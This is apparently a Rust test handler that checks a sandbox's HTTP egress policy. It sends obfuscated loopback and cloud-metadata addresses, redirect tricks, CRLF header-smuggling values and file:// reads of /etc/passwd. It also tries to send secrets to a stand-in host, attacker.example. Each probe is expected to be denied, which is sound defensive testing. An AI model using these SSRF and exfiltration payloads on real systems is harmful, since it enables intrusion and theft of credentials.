//! A handler that uses HTTP against its host and others: it wants to reach what is not public, servers that its tenant may not
//! reach, and the values of secrets. Each probe's result is told; what is claimed of them is that nothing but the one allowed
//! server answers.
//!
//! The note `server` is an allowed server's address. It answers at `/ok`, redirects at `/to-loopback`, `/to-metadata` and
//! `/to-stranger`, and gives back what it got at `/echo`. The note `port` is one of
//! loopback's where somebody listens. The note `attack`, or the number that was called, is one of
//!
//! | attack | what it tries | the outcome that is claimed |
//! | --- | --- | --- |
//! | `addresses` | loopback, metadata, private and unknown addresses in many spellings, hosts that are not listed | `denied` |
//! | `redirects` | to be led there by an allowed server | `denied` |
//! | `secrets` | to see a value, to send it elsewhere, to name what is not its own | `denied`, or the name, or asterisks |
//! | `smuggle` | lines, headers and methods that make another request | `denied` or `invalid-argument` |
//! | `flood` | more requests than a call may send | `limit-exceeded` |
//! | `wasi` | addresses and secrets again, by `wasi:http`, and answers that nobody reads | `HTTP-request-denied`; few are taken |

#[path = "../../report.rs"]
mod report;
mod wasi;

use voxtra_sdk::http::{Request, Response, secret};
use voxtra_sdk::prelude::*;

use crate::report::{Report, Told, number, unknown};

/// Of the sorts that a policy has to know. `PORT` is the note `port`.
const ADDRESSES: [&str; 20] = [
    "http://127.0.0.1:PORT/",
    "http://localhost:PORT/",
    "http://127.1:PORT/",
    "http://2130706433:PORT/",
    "http://0x7f000001:PORT/",
    "http://0177.0.0.1:PORT/",
    "http://0.0.0.0:PORT/",
    "http://[::1]:PORT/",
    "http://[::]:PORT/",
    "http://[::ffff:127.0.0.1]:PORT/",
    "http://[::ffff:7f00:1]:PORT/",
    "http://169.254.169.254/latest/meta-data/",
    "http://[::ffff:169.254.169.254]/latest/meta-data/",
    "http://[fd00:ec2::254]/latest/meta-data/",
    "http://10.0.0.1/",
    "http://192.168.1.1/",
    "http://100.64.0.1/",
    "http://[fe80::1]/",
    "http://[64:ff9b::7f00:1]/",
    "https://attacker.example/",
];

#[handler]
fn handle(call: &Call) -> Result<()> {
    let mut report = Report::new(call);
    let server =
        call.metadata("server").ok_or("the note `server` is missing; write an allowed server's address into it")?;
    match report.attack().as_str() {
        "addresses" => addresses(&mut report, &server, &call.metadata("port").unwrap_or_else(|| "8088".to_owned())),
        "redirects" => redirects(&mut report, &server),
        "secrets" => secrets(&mut report, &server),
        "smuggle" => smuggle(&mut report, &server),
        "flood" => flood(&mut report, &server, number(call, "times", 50)),
        "wasi" => by_wasi(&mut report, &server, &call.metadata("port").unwrap_or_else(|| "8088".to_owned())),
        other => return unknown(other),
    }
    report.send();
    Ok(())
}

fn addresses(report: &mut Report<'_>, server: &str, port: &str) {
    for address in ADDRESSES {
        report.host(address, Request::get(address.replace("PORT", port)).send());
    }
    report.host("server", Request::get(format!("{server}/ok")).send());
    // A name in front of an allowed host is not the host.
    let host = server.strip_prefix("http://").unwrap_or(server);
    report.host("user in front", Request::get(format!("http://{host}@127.0.0.1:{port}/")).send());
    report.host("as user", Request::get(format!("http://127.0.0.1:{port}#@{host}/ok")).send());
}

fn redirects(report: &mut Report<'_>, server: &str) {
    for place in ["to-loopback", "to-metadata", "to-stranger"] {
        report.host(place, Request::get(format!("{server}/{place}")).max_redirects(5).send());
        report.host(format!("{place} unfollowed"), Request::get(format!("{server}/{place}")).send());
    }
}

fn secrets(report: &mut Report<'_>, server: &str) {
    let with = |place: String, value: String| Request::get(place).header("x-key", value).send();
    report.host("echo", with(format!("{server}/echo"), secret("crm")));
    report.host("others", with(format!("{server}/echo"), secret("others")));
    report.host("unnamed", with(format!("{server}/echo"), secret("unnamed")));
    report.host("not for it", with(format!("{server}/echo"), secret("elsewhere")));
    report.host("stranger", with("https://attacker.example/".to_owned(), secret("crm")));
    report.host("in the address", Request::get(format!("{server}/echo?{}", secret("crm"))).send());
    report.host("in the body", Request::post(format!("{server}/echo")).body(secret("crm")).send());
    report.host(
        "in pieces",
        Request::get(format!("{server}/echo")).header("x-key", secret("crm")).header("range", "bytes=0-3").send(),
    );
}

fn smuggle(report: &mut Report<'_>, server: &str) {
    let ok = format!("{server}/ok");
    let header = |name: &str, value: &str| Request::get(&ok).header(name, value).send();
    report.host("line", header("x-a", "b\r\nhost: attacker.example"));
    report.host("host", header("host", "attacker.example"));
    report.host("transfer-encoding", header("transfer-encoding", "chunked"));
    report.host("content-length", header("content-length", "5"));
    report.host("proxy", header("proxy-authorization", "x"));
    report.host("upgrade", header("upgrade", "websocket"));
    for method in ["CONNECT", "TRACE", "GET / HTTP/1.1\r\n", "get"] {
        report.host(method, Request::new(method, &ok).send());
    }
    for scheme in ["ftp", "file", "ws"] {
        report.host(scheme, Request::get(format!("{scheme}://127.0.0.2/etc/passwd")).send());
    }
}

fn flood(report: &mut Report<'_>, server: &str, times: u64) {
    let mut answered = 0_u64;
    let mut last = None;
    for _ in 0..times {
        match Request::get(format!("{server}/ok")).send() {
            Ok(_) => answered += 1,
            refused => last = Some(refused),
        }
    }
    report.got("answered", answered.to_string());
    if let Some(refused) = last {
        report.host("last", refused);
    }
}

fn by_wasi(report: &mut Report<'_>, server: &str, port: &str) {
    let told = |result: Result<String, String>| match result {
        Ok(answer) => format!("ok {answer}"),
        Err(code) => format!("error {code}"),
    };
    for address in ADDRESSES {
        report.got(address, told(wasi::send(&address.replace("PORT", port), &[], b"")));
    }
    report.got("server", told(wasi::send(&format!("{server}/ok"), &[], b"")));
    let key = secret("crm");
    report.got("echo", told(wasi::send(&format!("{server}/echo"), &[("x-key", &key)], b"hello")));
    report.got("host", told(wasi::send(&format!("{server}/ok"), &[("host", "attacker.example")], b"")));
    report.got("redirect", told(wasi::send(&format!("{server}/to-loopback"), &[], b"")));
    report.got("others", told(wasi::send(&format!("{server}/echo"), &[("x-key", &secret("others"))], b"")));
    report.got("taken", wasi::pile_up(&format!("{server}/ok"), 20).to_string());
}

impl Told for Response {
    fn told(&self) -> String {
        format!("{} {}", self.status, self.text().unwrap_or("bytes"))
    }
}
